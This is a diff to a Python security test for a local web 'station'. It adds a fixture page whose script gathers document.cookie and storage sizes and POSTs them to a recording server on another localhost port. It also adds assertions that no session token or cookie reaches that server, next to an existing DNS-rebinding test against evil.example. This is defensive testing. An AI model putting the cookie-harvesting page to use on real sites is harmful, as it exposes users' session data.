@@ -7,6 +7,7 @@ reason, and the page keeps serving its operator, who keeps the device."""
 from __future__ import annotations
 
 import http.client
+import http.server
 import http.cookiejar
 import json
 import os
@@ -523,6 +524,35 @@ window.done = (async () => {
 </script>"""
 
 
+ANOTHER_LOCAL_PAGE = """<!DOCTYPE html><title>another local tool</title><script>
+window.done = (async () => {
+  const out = {cookie: document.cookie, session: sessionStorage.length, local: localStorage.length};
+  await fetch("/collect", {method: "POST", body: JSON.stringify(out)});    // what a page could send home
+  return out;
+})();
+</script>"""
+
+
+class _Recorder(http.server.BaseHTTPRequestHandler):
+    """Another local web server (another port of 127.0.0.1): records every request it gets."""
+    seen: list = []
+
+    def _record(self):
+        n = int(self.headers.get("Content-Length") or 0)
+        self.seen.append((self.command, self.path, dict(self.headers), self.rfile.read(n).decode()))
+        body = ANOTHER_LOCAL_PAGE.encode()
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    do_GET = do_POST = _record
+
+    def log_message(self, *a):
+        pass
+
+
 def test_a_hostile_page_in_chromium_cannot_drive_the_station(served, operator, monkeypatch):
     """DNS rebinding in a real Chromium: evil.example resolves to 127.0.0.1 (a host-resolver
     rule), its page (served by the attacker before the rebinding; here by Playwright's route)
@@ -594,6 +624,27 @@ def test_a_hostile_page_in_chromium_cannot_drive_the_station(served, operator, m
             assert st.version == version_before, "a hostile page changed the station's state"
             # the operator's page is still live and still drives
             assert page.locator("#conn").text_content() == "live"
+
+            # 3. another local server (issue 36): its page, open in the operator's own browser,
+            # and the server itself receive nothing that drives the station: no cookie, no session
+            import threading
+            other = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
+            threading.Thread(target=other.serve_forever, daemon=True).start()
+            try:
+                session = page.evaluate("sessionStorage.getItem('imubench-station-session')")
+                assert session and st.client(session) is not None
+                visit = ctx.new_page()
+                visit.goto(f"http://127.0.0.1:{other.server_address[1]}/")
+                seen_by_page = visit.evaluate("window.done")
+                visit.goto(f"http://localhost:{other.server_address[1]}/")     # the other name, too
+                visit.evaluate("window.done")
+            finally:
+                other.shutdown()
+            assert seen_by_page == {"cookie": "", "session": 0, "local": 0}
+            assert [r[1] for r in _Recorder.seen].count("/collect") == 2 and all("Cookie" not in h and "cookie" not in h for _, _, h, _ in _Recorder.seen)
+            everything = json.dumps(_Recorder.seen)
+            assert session not in everything and "token" not in everything
+            assert ctx.cookies() == []                      # the station never set one, for any port
             still_serves(served, operator)
         finally:
             browser.close()
